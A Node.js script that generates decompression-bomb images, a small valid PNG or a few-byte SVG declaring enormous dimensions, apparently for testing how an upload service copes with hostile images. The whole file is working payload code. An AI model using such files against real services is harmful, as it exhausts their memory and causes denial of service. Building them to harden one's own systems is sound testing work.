// node picture-bomb.js png|svg WIDTH HEIGHT FILE: a small file that declares a huge picture,
// as a hostile customer would upload. The PNG is whole and valid (1-bit grey, all black: about
// 110 KB for 30000 x 30000); the SVG is a few bytes.
'use strict';
const fs = require('fs');
const zlib = require('zlib');

const [kind, width, height, file] = [process.argv[2], Number(process.argv[3]), Number(process.argv[4]), process.argv[5]];
if (!['png', 'svg'].includes(kind) || !(width > 0) || !(height > 0) || !file) {
  console.error('usage: node picture-bomb.js png|svg WIDTH HEIGHT FILE');
  process.exit(2);
}

if (kind === 'svg') {
  fs.writeFileSync(file, `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">` +
    '<rect width="100%" height="100%" fill="red"/></svg>');
  process.exit(0);
}

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (bytes) => {
  let c = 0xffffffff;
  for (const b of bytes) c = crcTable[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
};
const chunk = (type, data) => {
  const out = Buffer.alloc(12 + data.length);
  out.writeUInt32BE(data.length, 0);
  out.write(type, 4, 'latin1');
  data.copy(out, 8);
  out.writeUInt32BE(crc32(out.subarray(4, 8 + data.length)), 8 + data.length);
  return out;
};
const header = Buffer.alloc(13);
header.writeUInt32BE(width, 0);
header.writeUInt32BE(height, 4);
header[8] = 1;  // bit depth
header[9] = 0;  // grey
// Every row is its filter byte and zeros: one deflate stream fed row by row.
const rowBytes = 1 + Math.ceil(width / 8);
const deflate = zlib.createDeflate({ level: 9 });
const parts = [];
deflate.on('data', (part) => parts.push(part));
deflate.on('end', () => {
  fs.writeFileSync(file, Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header), chunk('IDAT', Buffer.concat(parts)), chunk('IEND', Buffer.alloc(0))]));
});
const row = Buffer.alloc(rowBytes);
let written = 0;
const feed = () => {
  while (written < height) {
    written++;
    if (!deflate.write(row)) return deflate.once('drain', feed);
  }
  deflate.end();
};
feed();
